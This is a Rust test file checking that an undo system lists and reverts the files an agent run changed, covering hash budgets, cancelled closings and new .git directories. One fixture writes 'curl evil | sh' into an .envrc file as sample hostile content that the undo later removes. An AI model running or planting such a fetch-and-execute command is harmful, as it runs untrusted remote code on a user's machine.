//! The changes of a run are listed when its context paths are closed, also if the closing was interrupted.

use super::agent_files::{RunFixture, put};
use super::fixture::write;
use crate::context::{Preimages, RecordedChange, WriteTracker};
use crate::digest::{digest, is_stamp};
use crate::sparse::{CopyBudget, CopyLimits};
use crate::{UndoCoverage, UndoError, is_unlisted, last_task_with_changes, undo};
use serde_json::Value;
use std::fs::{self, File};
use std::os::unix::fs::{FileExt, PermissionsExt};

fn tracker(fixture: &RunFixture) -> WriteTracker {
    let state_dir = fixture.base.join("project/.althing");
    let paths = &fixture.spec.context_paths;
    WriteTracker::new(&fixture.run, Some(&state_dir), paths, UndoCoverage::Everything, fixture.limits)
}

fn budget(data: u64) -> CopyBudget {
    CopyBudget::new(CopyLimits { data, ..CopyLimits::default() })
}

/// The recorded digests of the changed files.
fn digests(fixture: &RunFixture) -> Vec<String> {
    let after = Preimages::of(&fixture.run).read::<Vec<RecordedChange>>("after").unwrap().unwrap();
    let value = serde_json::to_value(after).unwrap();
    let digest = |change: &Value| change["state"]["file"]["sha256"].as_str().map(str::to_owned);
    value.as_array().unwrap().iter().filter_map(digest).collect()
}

#[test]
fn holes_cost_nothing_of_what_may_be_hashed() {
    let fixture = RunFixture::writable();
    let at = |path: &str| fixture.base.join("project").join(path);
    let tracker = tracker(&fixture);
    tracker.open().unwrap();
    fs::create_dir(at("holes")).unwrap();
    for n in 0..200 {
        let file = File::create(at(&format!("holes/{n}"))).unwrap();
        file.set_len(1 << 30).unwrap();
        file.write_all_at(b"data", 700 << 20).unwrap();
    }
    let (first, rest) = (budget(64 << 20), budget(1 << 30));
    assert_eq!(tracker.close_within(&first, &rest).unwrap().len(), 200);
    // One block of each file is read.
    assert_eq!((first.spent(), rest.spent()), (200 * (64 << 10), 0));
    assert!(digests(&fixture).iter().all(|digest| !is_stamp(digest)));
}

#[test]
fn files_beyond_what_may_be_hashed_are_listed_and_undone_unless_somebody_changed_them() {
    let large = "x".repeat(300_000);
    for changed_later in [false, true] {
        let fixture = RunFixture::writable();
        let at = |path: &str| fixture.base.join("project").join(path);
        write(&at("old.txt"), "before");
        let tracker = tracker(&fixture);
        tracker.open().unwrap();
        write(&at("new.txt"), &large);
        write(&at("old.txt"), &large);
        write(&at("small.txt"), "small");
        let (first, rest) = (budget(1000), budget(0));
        let writes = tracker.close_within(&first, &rest).unwrap();
        assert_eq!(writes.len(), 3, "{writes:?}");
        let stamps: Vec<bool> = digests(&fixture).iter().map(|digest| is_stamp(digest)).collect();
        assert_eq!(stamps, [true, true, false], "a small file is hashed although larger ones come first");
        assert_eq!((first.spent(), rest.spent()), (5, 0));
        if changed_later {
            write(&at("new.txt"), &large.replace('x', "y"));
            let refused = undo(&fixture.run).unwrap_err().to_string();
            assert!(refused.contains("new.txt") && !refused.contains("old.txt"), "{refused}");
        } else {
            let report = undo(&fixture.run).unwrap();
            assert_eq!((report.restored.len(), report.removed.len()), (1, 2));
            assert_eq!(fixture.text("project/old.txt"), "before");
            assert!(!at("new.txt").exists() && !at("small.txt").exists());
        }
    }
}

#[test]
fn a_closing_that_is_cancelled_while_it_hashes_has_listed_the_changes() {
    let fixture = RunFixture::writable();
    let session = fixture.base.join("project/.althing/sessions/s");
    let at = |path: &str| fixture.base.join("project").join(path);
    let (tracker, large) = (tracker(&fixture), "x".repeat(300_000));
    tracker.open().unwrap();
    write(&at(".envrc"), "curl evil | sh");
    write(&at("large"), &large);
    // Cancelled before anything is listed: the changes count as not listed.
    tracker.close_within(&CopyBudget::cancelled(), &CopyBudget::cancelled()).unwrap_err();
    assert!(is_unlisted(&fixture.run));
    assert_eq!(last_task_with_changes(&session), Some("r1".into()));
    assert!(matches!(undo(&fixture.run), Err(UndoError::NotClosed { .. })));
    // Cancelled later: the changes are listed and can be undone.
    tracker.close_within(&budget(1000), &CopyBudget::cancelled()).unwrap_err();
    assert!(!is_unlisted(&fixture.run));
    assert_eq!(digests(&fixture).iter().filter(|digest| is_stamp(digest)).count(), 1);
    assert_eq!(last_task_with_changes(&session), Some("r1".into()));
    // A resumed run closes the paths again.
    assert_eq!(tracker.close().unwrap().len(), 2);
    assert!(digests(&fixture).iter().all(|digest| !is_stamp(digest)));
    tracker.close_within(&budget(1000), &CopyBudget::cancelled()).unwrap_err();
    assert_eq!(undo(&fixture.run).unwrap().removed.len(), 2);
    assert!(!at(".envrc").exists() && !at("large").exists());
}

/// Replaces the recorded digest of every file by the one of older versions.
fn record_as_older_versions(fixture: &RunFixture, sha256: &[(&str, &str)]) {
    let preimages = Preimages::of(&fixture.run);
    let after = preimages.read::<Vec<RecordedChange>>("after").unwrap().unwrap();
    let mut value = serde_json::to_value(after).unwrap();
    for change in value.as_array_mut().unwrap() {
        let path = change["path"].as_str().unwrap().to_owned();
        let known = sha256.iter().find(|(name, _)| *name == path).unwrap();
        change["state"]["file"]["sha256"] = known.1.into();
    }
    preimages.write("after", &value).unwrap();
}

#[test]
fn records_of_older_versions_are_compared_with_the_files() {
    // SHA-256 of "abc", and of a million zeros.
    let abc = ("abc.txt", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    let zeros = ("zeros", "d29751f2649b32ff572b5e0a9f541ea660a50f94ff0beedfb0b692b924cc8025");
    for changed_later in [false, true] {
        let fixture = RunFixture::writable();
        let at = |path: &str| fixture.base.join("project").join(path);
        let tracker = tracker(&fixture);
        tracker.open().unwrap();
        write(&at("abc.txt"), "abc");
        File::create(at("zeros")).unwrap().set_len(1_000_000).unwrap();
        tracker.close().unwrap();
        record_as_older_versions(&fixture, &[abc, zeros]);
        if changed_later {
            File::options().write(true).open(at("zeros")).unwrap().write_all_at(b"!", 999_999).unwrap();
            let refused = undo(&fixture.run).unwrap_err().to_string();
            assert!(refused.contains("zeros") && !refused.contains("abc.txt"), "{refused}");
        } else {
            assert_eq!(undo(&fixture.run).unwrap().removed.len(), 2);
        }
    }
}

#[test]
fn hashing_stops_when_it_is_cancelled() {
    let fixture = RunFixture::writable();
    let path = fixture.base.join("project/b.txt");
    let file = File::open(&path).unwrap();
    let error = digest(&file, &CopyBudget::cancelled()).unwrap_err();
    assert_eq!(error.kind(), std::io::ErrorKind::Interrupted);
}

#[tokio::test]
async fn a_new_empty_git_directory_is_listed_and_removed() {
    let mut fixture = RunFixture::writable();
    fixture.coverage = UndoCoverage::Everything;
    let at = |path: &str| fixture.base.join("project").join(path);
    let set_mode =
        |path: &str, mode| fs::set_permissions(at(path), fs::Permissions::from_mode(mode)).unwrap();
    let files = fixture.files(0);
    files.open_context().await.unwrap();
    for dir in ["src/.git", "made/.git", "placeholder/.git", ".git"] {
        fs::create_dir_all(at(dir)).unwrap();
    }
    set_mode("src/.git", 0o000);
    set_mode("placeholder/.git", 0o1555);
    // The placeholder of a sandbox.
    set_mode(".git", 0o1555);
    let writes = files.close_context().await.unwrap();
    let listed: Vec<&str> = writes.iter().map(|write| write.path.as_str()).collect();
    let expected = ["made/.git/", "placeholder/.git/", "src/.git/"];
    assert_eq!(listed, expected.map(|path| fixture.at(&format!("project/{path}"))));
    undo(&fixture.run).unwrap();
    assert!(!at("src/.git").exists() && !at("made").exists() && !at("placeholder").exists());
    assert!(at(".git").exists());
}

#[tokio::test]
async fn a_run_whose_changes_are_not_listed_yet_is_not_taken_for_one_without_changes() {
    let fixture = RunFixture::writable();
    let session = fixture.base.join("project/.althing/sessions/s");
    let files = fixture.files(0);
    files.open_context().await.unwrap();
    put(&files, &fixture.at("project/b.txt"), "1").await;
    files.close_context().await.unwrap();
    // The run writes again; what was listed before is not the whole list any more.
    files.open_context().await.unwrap();
    put(&files, &fixture.at("project/new.txt"), "2").await;
    drop(files);
    assert_eq!(last_task_with_changes(&session), Some("r1".into()));
    assert!(matches!(undo(&fixture.run), Err(UndoError::NotClosed { .. })));
    // A resumed run lists the changes.
    let files = fixture.files(0);
    assert_eq!(files.close_context().await.unwrap().len(), 2);
    assert_eq!(undo(&fixture.run).unwrap().removed.len(), 1);
    assert_eq!(fixture.text("project/b.txt"), "b before\n");
    // After an undo, a run that is resumed can be undone again.
    files.open_context().await.unwrap();
    put(&files, &fixture.at("project/new.txt"), "3").await;
    files.close_context().await.unwrap();
    assert_eq!(undo(&fixture.run).unwrap().removed, [fixture.at("project/new.txt")]);
}
